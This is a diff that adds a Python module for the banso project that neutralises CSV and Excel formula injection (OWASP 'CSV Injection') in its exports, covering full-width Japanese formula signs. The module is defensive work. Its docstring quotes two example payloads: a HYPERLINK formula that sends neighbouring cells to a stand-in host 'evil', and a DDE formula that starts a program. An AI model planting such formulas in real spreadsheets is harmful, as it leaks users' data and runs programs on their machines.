@@ -1,0 +1,107 @@
+"""Spreadsheet cells that cannot attack their reader (issue 17, O1; OWASP "CSV Injection").
+
+A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (a tab or CR first hides one) as
+a formula: a memo ``=HYPERLINK("http://evil/?"&A1, "詳細")`` sends the neighbouring cells away when
+clicked, and ``=cmd|' /C calc'!A0`` asks to start a program. Japanese input methods type the full-width
+＝＋－＠, which spreadsheets also read as formula signs. Every CSV and Excel writer of banso passes its
+cells through this module:
+
+* CSV: :func:`csv_cell` puts an apostrophe before such a text (OWASP's advice): the spreadsheet shows
+  it as text; :func:`restore_cell` removes it when banso reads its own export back.
+* Excel (openpyxl): :func:`excel_row` keeps the text as it is but stores it as a string cell with
+  Excel's own "text" marker (``quotePrefix``), so it is neither a formula nor turned into one on edit;
+  :func:`sheet_note` says so on every sheet.
+
+Numbers stay numbers: an ``int`` or ``float`` is never touched, and neither is a text that is only a
+number (``-5``, ``+3.25``, ``-1e3``), which a spreadsheet reads as that number and nothing more.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable, Sequence
+from typing import Any
+
+FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+NUMBER_PATTERN = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"
+"""A text that is only a number: a spreadsheet reads it as that number, never as a formula."""
+_NUMBER = re.compile(NUMBER_PATTERN)
+
+CSV_NOTE = ("# banso: 数式として実行されうるセルの先頭に ' を付けて無効化しました / "
+            "banso: cells a spreadsheet would run as formulas start with ' in this file")
+"""The line a CSV copy ends with when some of its cells were neutralised."""
+
+SHEET_NOTE = ("文字列のセルは数式として実行されません（=, +, -, @ で始まる文字列も文字列のまま保存）/ "
+              "text cells are never run as formulas (text starting with =, +, -, @ is stored as text)")
+"""The note on the first cell of every sheet banso writes (an Excel "note", shown on hover)."""
+
+
+def is_formula_like(value: object) -> bool:
+    """Return True when ``value`` is a text a spreadsheet would run as a formula."""
+    return (isinstance(value, str) and value.startswith(FORMULA_SIGNS)
+            and _NUMBER.fullmatch(value) is None)
+
+
+def csv_cell(value: object) -> object:
+    """Return ``value`` as a CSV writer should write it: formula-like text gains a leading apostrophe."""
+    return f"'{value}" if is_formula_like(value) else value
+
+
+def csv_row(values: Iterable[object]) -> list[object]:
+    """Return a CSV record with every cell neutralised (see :func:`csv_cell`)."""
+    return [csv_cell(v) for v in values]
+
+
+def restore_cell(value: str) -> str:
+    """Return a cell of a banso CSV export as it was before :func:`csv_cell` (for imports)."""
+    return value[1:] if value.startswith("'") and is_formula_like(value[1:]) else value
+
+
+def neutralise_csv_text(text: str) -> tuple[str, int]:
+    """Return a CSV text whose formula-like cells are neutralised, and how many were.
+
+    A text with none is returned unchanged, byte for byte; otherwise it is written again (RFC 4180
+    quoting, LF line ends) and ends with :data:`CSV_NOTE`, so its reader knows why cells start with '.
+    The note goes last, not first, so the header stays the first row for the programs reading it.
+    """
+    try:
+        rows = list(csv.reader(io.StringIO(text)))
+    except csv.Error:  # not CSV a spreadsheet would split into cells either
+        return text, 0
+    changed = sum(1 for row in rows for cell in row if is_formula_like(cell))
+    if not changed:
+        return text, 0
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerows(csv_row(row) for row in rows)
+    out.write(CSV_NOTE + "\n")
+    return out.getvalue(), changed
+
+
+def neutralise_csv_data(data: bytes) -> bytes:
+    """Return a stored CSV file as it may be served: formula-like cells neutralised (see
+    :func:`neutralise_csv_text`); a file that is not UTF-8 or has no such cell is returned as it is."""
+    try:
+        text = data.decode("utf-8-sig")
+    except UnicodeDecodeError:
+        return data
+    neutral, changed = neutralise_csv_text(text)
+    return neutral.encode() if changed else data
+
+
+def excel_row(ws: Any, values: Sequence[object]) -> None:
+    """Append ``values`` to the openpyxl worksheet ``ws``; formula-like text stays text (no formula)."""
+    ws.append(list(values))
+    for cell in ws[ws.max_row]:
+        if is_formula_like(cell.value):
+            cell.data_type = "s"  # openpyxl made a formula of a str starting with "="
+            cell.quotePrefix = True  # Excel's "this is text" marker: editing the cell keeps it text
+
+
+def sheet_note(ws: Any, *lines: str) -> None:
+    """Attach :data:`SHEET_NOTE` (and ``lines``) as the Excel note of the sheet's first cell."""
+    from openpyxl.comments import Comment
+
+    ws["A1"].comment = Comment("\n".join((SHEET_NOTE, *lines)), "banso", width=400, height=120)
